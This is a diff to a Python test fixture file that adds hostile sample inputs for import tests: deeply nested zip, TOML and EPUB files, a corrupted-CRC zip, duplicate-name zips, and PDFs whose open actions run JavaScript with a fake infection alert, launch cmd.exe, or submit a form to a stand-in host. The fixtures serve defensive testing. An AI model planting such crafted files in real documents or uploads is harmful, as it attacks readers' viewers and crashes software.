@@ -2,12 +2,13 @@
 
 from __future__ import annotations
 
+import warnings
 import zipfile
 from pathlib import Path
 
 from libzim.writer import Creator, Hint, Item, StringProvider  # type: ignore[import-untyped]
 
-from tests.conftest import tiny_pdf
+from tests.conftest import SAMPLE_COURSE, tiny_pdf, write_course
 
 PNG = bytes.fromhex(
     "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
@@ -109,3 +110,61 @@ def make_pdf_folder(folder: Path) -> Path:
     (folder / "02-bandages.pdf").write_bytes(tiny_pdf("Press on the wound with a clean cloth"))
     (folder / "notes.txt").write_text("not a PDF")
     return folder
+
+
+# Hostile files: what a stick or an upload may carry to break an import (issue 17, findings 10 and 14).
+
+DEEP = 100_000  # levels of nesting: far past Python's recursion limit
+
+
+def nested_manifest_zip(path: Path) -> Path:
+    """A zip whose manifest.json is a list inside a list, DEEP times."""
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("manifest.json", "[" * DEEP + "]" * DEEP)
+    return path
+
+
+def nested_author_folder(root: Path, where: str) -> Path:
+    """The sample author folder with DEEP nested arrays in course.toml or a lesson's front matter."""
+    nested = "x = " + "[" * DEEP + "]" * DEEP + "\n"
+    if where == "course.toml":
+        return write_course(root, **{"course.toml": nested + str(SAMPLE_COURSE["course.toml"])})
+    lesson = str(SAMPLE_COURSE["01-read-me.md"]).replace("+++\n", "+++\n" + nested, 1)
+    return write_course(root, **{"01-read-me.md": lesson})
+
+
+def bad_crc_zip(package: Path, out: Path) -> Path:
+    """A copy of a package zip with one byte of its first blob flipped: the zip's CRC no longer matches."""
+    data = bytearray(package.read_bytes())
+    with zipfile.ZipFile(package) as archive:
+        info = next(i for i in archive.infolist() if i.filename.startswith("blobs/"))
+    data[info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)] ^= 0xFF
+    out.write_bytes(bytes(data))
+    return out
+
+
+def deep_epub(path: Path, levels: int = 60_000) -> Path:
+    """An EPUB whose one chapter holds `levels` elements each inside the last."""
+    return make_epub(path, [("Deep", "<div>" * levels + "deep inside" + "</div>" * levels)])
+
+
+def with_duplicate(package: Path, name: str, first: bytes, out: Path) -> Path:
+    """A copy of a package zip where `name` appears twice: `first` before the package's own copy."""
+    with zipfile.ZipFile(package) as source, zipfile.ZipFile(out, "w") as archive:
+        archive.writestr(name, first)
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore", UserWarning)  # "Duplicate name": that is the point
+            for info in source.infolist():
+                archive.writestr(info, source.read(info))
+    return out
+
+
+# PDFs that would run something in the reader's viewer (finding 12): each says "scripted" when it can.
+ALERT = b"<< /S /JavaScript /JS (app.alert('Your phone is infected: call 0800 000 000')) >>"
+SCRIPTED_PDFS = {
+    "opening script": tiny_pdf("Wash your hands", b"/OpenAction 6 0 R ", ALERT),
+    "named script": tiny_pdf("Wash your hands", b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >> ", ALERT),
+    "script inline": tiny_pdf("Wash your hands", b"/OpenAction " + ALERT + b" "),
+    "launch": tiny_pdf("Wash your hands", b"/OpenAction << /S /Launch /F (cmd.exe) >> "),
+    "form sent away": tiny_pdf("Wash your hands", b"/OpenAction << /S /SubmitForm /F (http://x.test/) >> "),
+}
